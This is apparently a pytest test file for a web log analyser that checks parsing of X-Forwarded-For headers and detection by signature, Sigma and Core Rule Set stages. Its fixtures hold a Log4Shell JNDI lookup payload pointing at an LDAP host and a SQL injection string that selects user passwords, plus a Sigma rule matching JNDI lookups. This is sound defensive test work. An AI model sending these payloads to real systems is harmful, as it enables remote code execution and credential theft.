"""Request headers a format logs besides the user agent and Referer (X-Forwarded-For, X-Real-IP,
CF-Connecting-IP) are event columns, and every payload stage reads them: the signatures, Sigma
(``X-Forwarded-For`` / ``cs(X-Forwarded-For)``) and CRS (``REQUEST_HEADERS:X-Forwarded-For``).
The client address --real-ip-header takes from the same header stays a validated address."""
from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

import file_parser
from log_analyser_core.parsing.events import EVENT_SCHEMA, HEADER_COLUMNS
from log_analyser_core.parsing.sources import InputOptions
from log_analyser_core.rules import sigma_engine, signatures
from log_analyser_core.rules.crs import stage

LOG4SHELL = "${jndi:ldap://198.51.100.9:1389/Exploit}"
SQLI = "1' UNION SELECT password FROM users-- "
BENIGN = "198.51.100.20, 10.0.0.1"
PEERS = ("203.0.113.7", "203.0.113.8", "203.0.113.9")


def nginx_main(path: Path) -> Path:
    """nginx's 'main' format: combined plus "$http_x_forwarded_for"."""
    rows = [f'{ip} - - [10/Oct/2026:13:55:3{n} +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0" '
            f'"{xff}"' for n, (ip, xff) in enumerate(zip(PEERS, (LOG4SHELL, SQLI, BENIGN), strict=True))]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def json_lines(path: Path) -> Path:
    rows = [json.dumps({"time": f"2026-10-10T13:55:3{n}+00:00", "remote_addr": ip, "request": "GET / HTTP/1.1",
                        "status": 200, "body_bytes_sent": 512, "http_user_agent": "Mozilla/5.0",
                        "http_x_forwarded_for": xff})
            for n, (ip, xff) in enumerate(zip(PEERS, (LOG4SHELL, SQLI, BENIGN), strict=True))]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.fixture(params=["main", "json"])
def logged(request, tmp_path) -> tuple[str, Path]:
    writer = nginx_main if request.param == "main" else json_lines
    return request.param, writer(tmp_path / f"access.{request.param}")


def events_of(logged, options: InputOptions | None = None):
    name, path = logged
    parsed = file_parser.parse([str(path)], format_name=name, options=options)
    assert parsed.unparsed.height == 0
    return parsed.events


def test_the_header_columns_are_in_the_schema_and_hold_the_value_as_logged(logged):
    events = events_of(logged)
    assert list(events.columns)[:len(EVENT_SCHEMA)] == list(EVENT_SCHEMA)
    assert set(HEADER_COLUMNS) <= set(events.columns)
    assert events["forwarded_for"].cast(str).to_list() == [LOG4SHELL, SQLI, BENIGN]
    assert events["x_real_ip"].null_count() == events.height   # not logged: null, not ''


def test_a_format_without_the_header_has_null_columns(tmp_path):
    path = tmp_path / "combined.log"
    path.write_text('203.0.113.7 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"\n')
    events = file_parser.parse([str(path)], format_name="combined").events
    assert all(events[c].null_count() == 1 for c in HEADER_COLUMNS)


def test_the_real_client_from_the_header_stays_a_validated_address(logged):
    events = events_of(logged, InputOptions(real_ip_header="x-forwarded-for"))
    # a payload is no address: the peer stays the client; a real list gives its leftmost address
    assert events["client_ip"].cast(str).to_list() == ["203.0.113.7", "203.0.113.8", "198.51.100.20"]
    assert events["forwarded_for"].cast(str).to_list()[0] == LOG4SHELL


def test_signatures_read_the_forwarded_for_header(logged):
    found = signatures.detect(events_of(logged))
    assert {e.rule_id for e in found["203.0.113.7"]} == {"sig-rce"}
    assert {e.rule_id for e in found["203.0.113.8"]} == {"sig-sqli"}
    assert "203.0.113.9" not in found     # an ordinary proxy list is no payload


@pytest.mark.parametrize("field", ["X-Forwarded-For", "cs(X-Forwarded-For)", "cs-x-forwarded-for"])
def test_sigma_maps_the_header_field_names(logged, tmp_path, field):
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "xff.yml").write_text(textwrap.dedent(f"""\
        title: JNDI lookup in X-Forwarded-For
        id: 5b0a8f0e-55a4-4c8e-9d3c-0a9b1f1e2d3c
        status: test
        description: test rule
        author: test
        date: 2026-12-07
        tags:
            - attack.initial-access
            - attack.t1190
        logsource:
            category: webserver
        detection:
            selection:
                {field}|contains: '${{jndi:'
            condition: selection
        falsepositives:
            - none
        level: critical
        """), encoding="utf-8")
    rules = sigma_engine.load([folder])
    assert len(rules.rules) == 1, rules
    found = sigma_engine.evaluate(events_of(logged), rules)
    assert set(found) == {"203.0.113.7"}


def test_crs_reads_the_header_as_request_headers(logged, shared):
    ruleset = stage.load(shared / "knowledge" / "coreruleset", 1)
    found = stage.evaluate(events_of(logged), ruleset)
    java = [e for e in found["203.0.113.7"] if e.rule_id == "944150"]   # Log4J / Log4Shell
    assert java and java[0].matched.startswith("REQUEST_HEADERS:X-Forwarded-For=${jndi:")
    assert "203.0.113.9" not in found


def test_an_iis_log_reads_its_forwarded_for_field_with_plus_as_space(tmp_path):
    path = tmp_path / "u_ex261010.log"
    path.write_text(
        "#Software: Microsoft Internet Information Services 10.0\n"
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
        "cs(Referer) sc-status sc-substatus sc-win32-status time-taken cs(X-Forwarded-For)\n"
        "2026-10-10 13:55:36 10.0.0.1 GET /index.html - 443 - 203.0.113.7 Mozilla/5.0+(Windows) - 200 0 0 15 "
        "1'+UNION+SELECT+password+FROM+users--\n"
        "2026-10-10 13:55:37 10.0.0.1 GET /index.html - 443 - 203.0.113.8 Mozilla/5.0+(Windows) - 200 0 0 15 "
        "198.51.100.20\n", encoding="utf-8")
    events = file_parser.parse([str(path)], options=InputOptions(real_ip_header="x-forwarded-for")).events
    assert events["forwarded_for"].cast(str).to_list() == ["1' UNION SELECT password FROM users--", "198.51.100.20"]
    assert events["client_ip"].cast(str).to_list() == ["203.0.113.7", "198.51.100.20"]
    assert {e.rule_id for e in signatures.detect(events)["203.0.113.7"]} == {"sig-sqli"}


def test_a_huge_forwarded_for_is_clipped_like_every_client_written_field(tmp_path):
    from log_analyser_core.parsing.events import FIELD_CHARS
    path = tmp_path / "huge.json"
    path.write_text(json.dumps({"time": "2026-10-10T13:55:36+00:00", "remote_addr": "203.0.113.7",
                                "request": "GET / HTTP/1.1", "status": 200, "body_bytes_sent": 5,
                                "http_x_forwarded_for": "${jndi:ldap://x/" + "a" * 100_000 + "}"}) + "\n")
    events = file_parser.parse([str(path)], format_name="json").events
    assert len(events["forwarded_for"].cast(str)[0]) == FIELD_CHARS
    assert {e.rule_id for e in signatures.detect(events)["203.0.113.7"]} == {"sig-rce"}
